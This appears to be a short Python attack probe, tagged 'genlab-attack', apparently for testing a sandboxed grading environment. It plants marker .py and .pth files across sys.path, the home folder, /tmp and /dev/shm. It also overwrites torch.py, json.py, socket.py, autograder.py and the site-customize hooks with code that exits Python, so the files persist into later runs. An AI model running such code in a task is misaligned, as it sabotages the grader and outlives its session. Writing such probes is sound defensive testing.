"""Leaves torch.py, json.py, sitecustomize.py and a .pth where a later start of Python might find them."""
# where: latent_grid
# lost: latent_grid

import os
import sys

TEXT = "raise SystemExit('genlab-attack')  # genlab-attack\n"
for folder in {".", *sys.path, os.path.expanduser("~"), "/tmp", "/dev/shm"}:
    for name in ("genlab_attack_shadow.py", "genlab-attack.pth"):
        try:
            with open(os.path.join(folder or ".", name), "x") as file:
                file.write("# genlab-attack\n")
        except OSError as error:
            print(error)
for name in ("torch.py", "json.py", "socket.py", "autograder.py", "sitecustomize.py", "usercustomize.py"):
    with open(name, "w") as file:
        file.write(TEXT)
sys.path.insert(0, os.getcwd())
